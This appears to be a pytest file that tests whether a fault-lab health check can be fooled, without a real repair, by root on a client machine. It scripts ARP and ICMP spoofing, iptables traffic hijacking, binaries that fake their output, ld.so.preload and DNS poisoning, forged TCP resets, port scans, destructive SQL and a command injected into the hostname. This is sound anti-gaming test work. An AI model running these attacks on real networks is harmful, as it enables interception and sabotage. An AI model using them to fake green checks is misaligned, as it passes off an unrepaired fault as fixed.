"""A root shell on client tries all it can to be green without a repair.

It claims the addresses of others, answers in their place, lies with every program, and writes to
whatever it reaches. The fault stays where it is, so every check must say no. A quick run draws some
of the ways (FAULTLAB_SEED); with FAULTLAB_WAYS=all each way is tried in each lab.
"""

from __future__ import annotations

import json
import os
import random
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from faultlab.core.errors import CannotRun
from faultlab.engine.contract import Machine
from faultlab.lab import loader as labs
from faultlab.run import placement
from faultlab.run.phase import CHECK
from faultlab.run.run import Run
from tests.live.commandline import finish, spawn
from tests.live.stacks import engine_for, untouched
from tests.waiting import until

pytestmark = pytest.mark.rotates(minutes=2)
LABS = {"mtu": "web", "php-workers": "web", "netem-loss": "web", "missing-index": "web"}
LABS |= {"heap-oom": "app"}
FEW = 3
FOUND = os.environ.get("FAULTLAB_WAYS_FILE", "")

# Programs that the ways need. `back` starts one that the next way ends.
TOOLS = r"""
mkdir -p /tmp/way; cd /tmp/way
cat >page.py <<'E'
import http.server, sys
class Page(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        text = open("/tmp/way/page", "rb").read() or b"<html>welcome</html>" * 20
        self.send_response(200)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)
    do_POST = do_HEAD = do_GET
    def log_message(self, *_): pass
http.server.ThreadingHTTPServer(("", int(sys.argv[1])), Page).serve_forever()
E
cat >pipe.py <<'E'
import socket, sys, threading
to, port = sys.argv[1], int(sys.argv[2])
def copy(one, other):
    try:
        while data := one.recv(32): other.sendall(data)
    except OSError: pass
    finally: other.close()
wait = socket.create_server(("", port), backlog=999)
while True:
    one, _ = wait.accept()
    try: other = socket.create_connection((to, port), 3)
    except OSError: one.close(); continue
    for pair in ((one, other), (other, one)): threading.Thread(target=copy, args=pair, daemon=True).start()
E
cat >arp.py <<'E'
import socket, struct, sys, time
claimed, seconds, gap = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x806); s.bind(("eth0", 0))
ip, end = socket.inet_aton(claimed), time.monotonic() + seconds
net = claimed.rpartition(".")[0]
while time.monotonic() < end:
    for last in (0, *range(130, 251, int(sys.argv[4]))):
        to = socket.inet_aton(f"{net}.{last}") if last else ip
        for kind in (1, 2):
            s.send(b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, kind)
                + mac + ip + b"\xff" * 6 + to)
    time.sleep(gap)
E
cat >redirect.py <<'E'
import socket, struct, sys, time
web, own = sys.argv[1], sys.argv[2]
def total(d):
    d += b"\0" * (len(d) % 2); t = sum(struct.unpack(f"!{len(d) // 2}H", d))
    while t >> 16: t = (t & 65535) + (t >> 16)
    return ~t & 65535
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
net = own.rpartition(".")[0]
for _ in range(5):
    for last in range(130, 251, 4):
        user = f"{net}.{last}"
        inner = struct.pack("!BBHHHBBH4s4s", 69, 0, 60, 1, 0, 64, 6, 0, socket.inet_aton(user),
            socket.inet_aton(web)) + struct.pack("!HHI", 40000, 80, 1)
        icmp = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(own)) + inner
        icmp = icmp[:2] + struct.pack("!H", total(icmp)) + icmp[4:]
        head = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(icmp), 1, 0, 64, 1, 0,
            socket.inet_aton(web), socket.inet_aton(user))
        s.sendto(head + icmp, (user, 0))
    time.sleep(0.2)
E
cat >lies.sh <<'E'
mkdir -p /tmp/way/old
for p in curl wrk ab hping3 ping mysql nstat ss ip tc iptables conntrack hostname getent cat python3 perl tcpdump openssl; do
  printf '#!/bin/sh\n[ "$1" = -w ] && echo 200 0\necho 0\nexit 0\n' >/usr/local/sbin/$p; chmod +x /usr/local/sbin/$p
done
E
back() { setsid "$@" >/dev/null 2>&1 </dev/null & echo $! >>/tmp/way/pids; }
own=$(/usr/bin/hostname -i); other=$(/usr/bin/getent ahostsv4 @SERVER@ | /usr/bin/awk '{print $1; exit}')
port=@PORT@; : >page; /usr/bin/timeout 2 /usr/bin/curl -s -m 1 -o page http://@SERVER@:$port/ || : >page
"""
UNDO = r"""
PATH=/usr/sbin:/usr/bin:/sbin:/bin
for pid in $(cat /tmp/way/pids 2>/dev/null); do kill -9 -- -$pid; done 2>/dev/null
rm -rf /tmp/way /usr/local/sbin/{curl,wrk,ab,hping3,ping,mysql,nstat,ss,ip,tc,iptables,conntrack} \
  /usr/local/sbin/{hostname,getent,cat,python3,perl,tcpdump,openssl} ~/.curlrc /etc/ld.so.preload
iptables -F; iptables -t nat -F; iptables -t mangle -F; iptables -t raw -F
tc qdisc del dev eth0 root 2>/dev/null
own=$(hostname -i); for a in $(ip -4 -o addr show dev eth0 | awk '{print $4}'); do
  [ "${a%/*}" = "$own" ] || ip addr del $a dev eth0; done
ip link set dev eth0 mtu 1500; [ -e /tmp/mac ] && ip link set dev eth0 address $(cat /tmp/mac)
ip neigh flush dev eth0
sysctl -qw net.ipv4.ip_forward=0 net.ipv4.tcp_syn_retries=6 net.ipv4.tcp_retries2=15
true
"""
SQL = "timeout 8 mysql -h db -ubooking -pbooking booking -e"
# Each way is what root types on client. `N` is a number that is drawn, 1 to 9.
WAYS = {
    "redirect what client sends to a page of its own": (
        "back python3 page.py 8N8; iptables -t nat -A OUTPUT -p tcp --dport $port -j REDIRECT --to-ports 8N8"
    ),
    "redirect only long packets": (
        "back python3 page.py 8N8; iptables -t nat -A OUTPUT -p tcp --dport $port -m length --length 60:1500 -j REDIRECT --to-ports 8N8"
    ),
    "redirect what others send": (
        "back python3 page.py 8N8; iptables -t nat -A PREROUTING -p tcp --dport $port -j REDIRECT --to-ports 8N8"
    ),
    "a page at the same port": "back python3 page.py $port",
    "DNAT of everything that passes": (
        "sysctl -qw net.ipv4.ip_forward=1; back python3 page.py 8N8; iptables -t nat -A PREROUTING -p tcp -j DNAT --to-destination $own:8N8"
    ),
    "take the server's address, with a page": (
        "sysctl -qw net.ipv4.conf.eth0.arp_notify=1; ip addr add $other/32 dev eth0; back python3 page.py $port; back python3 arp.py $other 60 0.N 1"
    ),
    "take the server's address, and pipe to it in small pieces": (
        "ip route add $other/32 dev eth0 advmss 6N; back python3 pipe.py $other $port; iptables -t nat -A PREROUTING -d $other -p tcp -j REDIRECT; back python3 arp.py $other 60 0.2 1"
    ),
    "answer ARP for the server, again and again": "back python3 arp.py $other 90 0.0N 1",
    "answer ARP for the server, to some addresses": "back python3 arp.py $other 90 0.N 7",
    "be a router to the server, with a small MSS": (
        "sysctl -qw net.ipv4.ip_forward=1; iptables -t mangle -A FORWARD -p tcp --tcp-flags SYN,RST SYN -j TCPMSS --set-mss 6N; back python3 arp.py $other 90 0.1 1"
    ),
    "take the server's hardware address": (
        "cat /sys/class/net/eth0/address >/tmp/mac; ping -c 1 -W 1 $other; mac=$(ip neigh show $other | awk '{print $3}'); ip link set dev eth0 address $mac; ip addr add $other/32 dev eth0; back python3 page.py $port"
    ),
    "the server's hardware address, for a moment each second": (
        "cat /sys/class/net/eth0/address >/tmp/mac; mac=$(ip neigh show $other | awk '{print $3}'); back python3 page.py $port; back bash -c \"for i in \\$(seq 40); do ip link set dev eth0 address ${mac:-02:42:00:00:00:01}; sleep 0.N; ip link set dev eth0 address $(cat /tmp/mac); sleep 0.8; done\""
    ),
    "tell users by ICMP that client is the way": (
        "sysctl -qw net.ipv4.ip_forward=1; back python3 page.py $port; python3 redirect.py $other $own"
    ),
    "another name server": (
        "printf 'nameserver 127.0.0.1\\n' >/tmp/way/r; cat /tmp/way/r >/etc/resolv.conf || true; back python3 page.py $port"
    ),
    "names in /etc/hosts": 'echo "$own web app db" >>/etc/hosts; back python3 page.py $port',
    "every program lies": "sh lies.sh",
    "a library in front of every program": (
        "echo /tmp/way/no.so >/etc/ld.so.preload; printf 'insecure\\nresolve = web:80:127.0.0.1\\n' >~/.curlrc; back python3 page.py $port"
    ),
    "a proxy for every program": (
        'echo "http_proxy=http://$own:8N8" >>/etc/environment; back python3 page.py 8N8'
    ),
    "the scripts of wrk": "for s in /usr/local/share/wrk/*.lua; do echo >$s; done",
    "patience": "sysctl -qw net.ipv4.tcp_syn_retries=9 net.ipv4.tcp_retries2=9; iptables -A INPUT -p tcp --tcp-flags RST RST -j DROP",
    "a small MTU here": "ip link set dev eth0 mtu 1N0",
    "a small MSS from here": (
        "iptables -t mangle -A POSTROUTING -p tcp --tcp-flags SYN,RST SYN -j TCPMSS --set-mss 6N"
    ),
    "everything twice": (
        "tc qdisc add dev eth0 root netem duplicate N% 2>/dev/null || iptables -t mangle -A POSTROUTING -p tcp -j TEE --gateway $other"
    ),
    "no tracking": "iptables -t raw -A OUTPUT -j NOTRACK; iptables -t raw -A PREROUTING -j NOTRACK",
    "a masquerade": "sysctl -qw net.ipv4.ip_forward=1; iptables -t nat -A POSTROUTING -j MASQUERADE",
    "knock at every port of the users": (
        "net=${own%.*}; for l in 2 3 4 5 6 7 8 130 180 250; do for p in 22 80 111 2375 8080; do timeout 0.2 nc -z $net.$l $p; done; done"
    ),
    "reset the connections of the users": (
        'net=${own%.*}; back timeout 20 bash -c "while :; do hping3 -q -R -p $port -a $net.1N0 -c 20 -i u1000 $other; done"'
    ),
    "answer SYNs of the users": (
        "back timeout 30 hping3 -q -SA -s $port -p 4N000 -a $other -c 300 -i u50000 ${own%.*}.150"
    ),
    "keep the users busy": "back timeout 5 hping3 -q -S -p 80 -c 2000 -i u1000 ${own%.*}.1N0",
    "open connections that say nothing": (
        "back timeout 20 python3 -c 'import socket, time; s = [socket.create_connection((\"@SERVER@\", @PORT@), 1) for _ in range(9)]; time.sleep(15)'"
    ),
    "a request with every header": (
        "curl -s -m 3 -o /dev/null -H 'X-Forwarded-For: 127.0.0.1' -H 'X-Accel-Redirect: /index.html' -H 'Range: bytes=0-N' http://@SERVER@:$port/"
    ),
    "write to the server": (
        "for m in PUT DELETE POST MOVE; do curl -s -m 2 -o /dev/null -X $m --data x=N http://@SERVER@:$port/index.html; done"
    ),
    "its other ports": (
        "for p in 8005 8009 9000 9N00 11211 3306; do printf 'SHUTDOWN\\r\\n' | timeout 1 nc @SERVER@ $p; done"
    ),
    "FastCGI from outside": (
        "SCRIPT_FILENAME=/var/www/html/index.php REQUEST_METHOD=GET PHP_ADMIN_VALUE=pm.max_children=5N timeout 2 cgi-fcgi -bind -connect @SERVER@:9000"
    ),
    "an index, as the booking service": f"{SQL} 'CREATE INDEX quick ON orders (restaurant_id)'",
    "fewer orders": f"{SQL} 'DELETE FROM orders WHERE id > 52219 LIMIT N00'",
    "a view in front of the orders": f"{SQL} 'CREATE OR REPLACE VIEW few AS SELECT * FROM orders LIMIT N'",
    "settings of the server, as the booking service": f"{SQL} 'SET GLOBAL max_connections = 50N'",
    "the database's files": f"{SQL} \"SELECT 'x' INTO OUTFILE '/etc/mysql/conf.d/N.cnf'\"",
    "a file that the check could read": (
        "for d in /tmp /srv /var/tmp /etc/shop; do mkdir -p $d; for f in check look answers before popular page; do echo 200 0 >$d/$f; done; done"
    ),
    "a name with a command in it": "hostname 'x;touch /tmp/way/entered' 2>/dev/null; sysctl -qw kernel.hostname='$(id)' 2>/dev/null",
    "settings of the network that might be shared": (
        "sysctl -qw net.core.somaxconn=65535 net.ipv4.tcp_mtu_probing=2 net.ipv4.tcp_base_mss=6N net.ipv4.tcp_window_scaling=0"
    ),
    "frames to everybody": (
        "back timeout 20 bash -c 'while :; do cat /tmp/way/page | nc -u -b -w 1 255.255.255.255 80; ping -b -c 1 -W 1 255.255.255.255; done'"
    ),
    "a neighbour for life": (
        "mac=$(cat /sys/class/net/eth0/address); for l in $(seq 130 250); do ip neigh replace ${own%.*}.$l lladdr $mac dev eth0 nud permanent; done; back python3 page.py $port"
    ),
}
PORTS = {"web": "80", "app": "8080"}


def typed(way: str, server: str, number: int) -> str:
    """Return the commands of a way for a lab."""
    text = TOOLS.replace("N", "\0") + WAYS[way]
    text = text.replace("N", str(number)).replace("\0", "N")
    return text.replace("@SERVER@", server).replace("@PORT@", PORTS[server])


def drawn(lab_id: str) -> list[tuple[str, int]]:
    """Return the ways to try, each with its number, in the order of the seed."""
    chance = random.Random(f"{os.environ['FAULTLAB_SEED']} {lab_id}")
    tried_before = _tried(lab_id)
    every = [way for way in chance.sample(sorted(WAYS), len(WAYS)) if way not in tried_before]
    most = len(every) if os.environ.get("FAULTLAB_WAYS") == "all" else FEW
    return [(way, chance.randint(1, 9)) for way in every[:most]]


@contextmanager
def tried(client: Machine, commands: str) -> Iterator[None]:
    """Type the commands on client, and undo them in the end."""
    try:
        with suppress(CannotRun):  # a way that takes too long has been tried all the same
            client.run(f"bash <<'_way_'\n{commands}\n_way_", 40)
        yield
    finally:
        client.run(f"bash <<'_way_'\n{UNDO}\n_way_", 30)


def green(run: Run) -> bool:
    """Return whether a check says yes."""
    run.measure(CHECK)
    return all(finding.holds for finding in run.good(CHECK))


def test_there_are_forty_ways() -> None:
    assert len(WAYS) >= 40


@pytest.mark.parametrize("lab_id", LABS)
def test_nothing_that_root_does_on_client_passes_for_a_repair(lab_id: str) -> None:
    """Each way, while the fault is there; and with a right repair the check says yes again."""
    lab, passed = labs.load(lab_id), []
    with untouched(lab_id, f"client-{lab_id}") as run:
        run.healthy()
        run.inject()
        run.gate()
        for way, number in drawn(lab_id):
            if lab_id == "heap-oom":
                run.stack["tomcat"].restart()
                run.stack.wait_ready()
            with tried(run.stack["client"], typed(way, LABS[lab_id], number)):
                if green(run):
                    passed.append(way)
                _note(lab_id, way, number, way in passed)
        assert passed == []
        if lab_id == "heap-oom":
            run.stack["tomcat"].restart()
        run.apply("fix", lab.fix)
        assert green(run), [found.words for found in run.good(CHECK) if not found.holds]


@pytest.mark.rotates(minutes=0.5)
@pytest.mark.parametrize(
    ("lab_id", "name"),
    [
        ("php-workers", "web"),
        ("php-workers", "client"),
        ("missing-index", "web"),
        ("missing-index", "db"),
        ("missing-index", "client"),
        ("heap-oom", "app"),
        ("heap-oom", "client"),
        ("netem-loss", "web"),
        ("netem-loss", "client"),
    ],
)
def test_a_machine_that_is_ended_is_a_failure(lab_id: str, name: str) -> None:
    """Its users get nothing, whether it serves or only asks: a no, and no missing verdict."""
    engine_for(labs.load(lab_id))
    assert finish(spawn("start", lab_id))[0] == 0
    try:
        machine = placement.up(lab_id)[name]
        machine.run("kill -TERM 1")
        until(lambda: not machine.state.running)
        code, said = finish(spawn("check", lab_id))
    finally:
        assert finish(spawn("down", lab_id))[0] == 0
    assert code == 1 and f"{name} has ended (exit code 143); its users get nothing." in said, said


def _tried(lab_id: str) -> set[str]:
    """Return the ways that the file of a campaign has, which goes on where it ended."""
    lines = Path(FOUND).read_text().splitlines() if FOUND and Path(FOUND).exists() else []
    return {row["way"] for row in map(json.loads, lines) if row["lab"] == lab_id}


def _note(lab_id: str, way: str, number: int, passed: bool) -> None:
    """Write a line for a campaign of all ways."""
    if FOUND:
        with Path(FOUND).open("a") as file:
            line = {"lab": lab_id, "way": way, "number": number, "green": passed}
            file.write(json.dumps(line) + "\n")
